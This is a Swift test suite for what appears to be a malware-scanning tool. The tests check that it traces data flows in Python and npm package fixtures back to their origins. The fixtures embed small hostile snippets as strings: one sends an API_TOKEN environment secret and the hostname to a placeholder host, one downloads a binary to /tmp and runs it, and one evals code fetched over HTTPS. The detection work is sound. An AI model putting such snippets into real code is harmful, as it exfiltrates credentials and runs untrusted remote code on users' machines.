import Behaviors
import Packages
import Testing

/// A flow shows where it ends and where its value was read, across lines, functions and files.
@Suite("Both ends of flows")
struct FlowOriginTests {
    /// The flows of a sequence as `event file:line < file:line`; `?` where the source is not known.
    private func chains(_ sequence: BehaviorSequence) -> [String] {
        sequence.units.flatMap(\.events).filter { $0.behavior.name.hasPrefix("flow.") }.map { event in
            let origin = event.origin.map { "\(sequence.paths[Int($0.file)]):\($0.line)" } ?? "?"
            return "\(event.behavior.name) \(sequence.paths[Int(event.file)]):\(event.line) < \(origin)"
        }
    }

    @Test func throughVariables() {
        let found = chains(
            sequence(
                [
                    "m.py":
                        "import os, requests\nkey = os.environ['API_TOKEN']\nbody = {'k': key}\n\nrequests.post('https://h.invalid/', json=body)"
                ],
                kind: .wheel))
        #expect(found == ["flow.sec>send m.py:5 < m.py:2"])
    }

    @Test func eachSourceKeepsItsOwnPlace() {
        let found = chains(
            sequence(
                [
                    "m.py":
                        "import os, socket, requests\na = os.environ['API_TOKEN']\nb = socket.gethostname()\nrequests.post('https://h.invalid/', data=a + b)"
                ], kind: .wheel))
        #expect(found == ["flow.sec>send m.py:4 < m.py:2", "flow.sys>send m.py:4 < m.py:3"])
    }

    @Test func throughReturnsAndFiles() {
        let found = chains(
            sequence(
                [
                    "p/__init__.py":
                        "from . import a\nimport requests\n\nrequests.post('https://h.invalid/', data=a.get())",
                    "p/a.py": "import os\n\ndef get():\n    return os.environ['API_TOKEN']",
                ], kind: .wheel))
        #expect(found.contains("flow.sec>send p/__init__.py:4 < p/a.py:4"), "\(found)")
    }

    @Test func theDropIsThePlaceOfTheWrite() {
        let found = chains(
            sequence(
                [
                    "m.py":
                        "import requests, subprocess\nr = requests.get('https://h.invalid/x').content\nopen('/tmp/x.bin', 'wb').write(r)\nsubprocess.run(['/tmp/x.bin'])"
                ], kind: .wheel))
        #expect(found == ["flow.net>write m.py:3 < m.py:2", "flow.drop>proc m.py:4 < m.py:3"])
    }

    @Test func inCallbacks() {
        let found = chains(
            npmSequence([
                "index.js":
                    "const https = require('https');\nhttps.get('https://h.invalid/x', (res) => {\n  res.on('data', (d) => {\n    eval(d.toString());\n  });\n});"
            ]))
        #expect(found.contains { $0.hasPrefix("flow.net>exec index.js:4 < index.js:") }, "\(found)")
    }

    @Test func aSourceInOneBranchKeepsItsPlaceThroughAUnion() {
        let found = chains(
            sequence(
                [
                    "m.py":
                        "import os, requests\nx = ''\nif f():\n    x = os.environ['A_TOKEN']\nx = x + 'y'\nrequests.post('https://h.invalid/', data=x)"
                ], kind: .wheel))
        #expect(found == ["flow.sec>send m.py:6 < m.py:4"])
    }
}
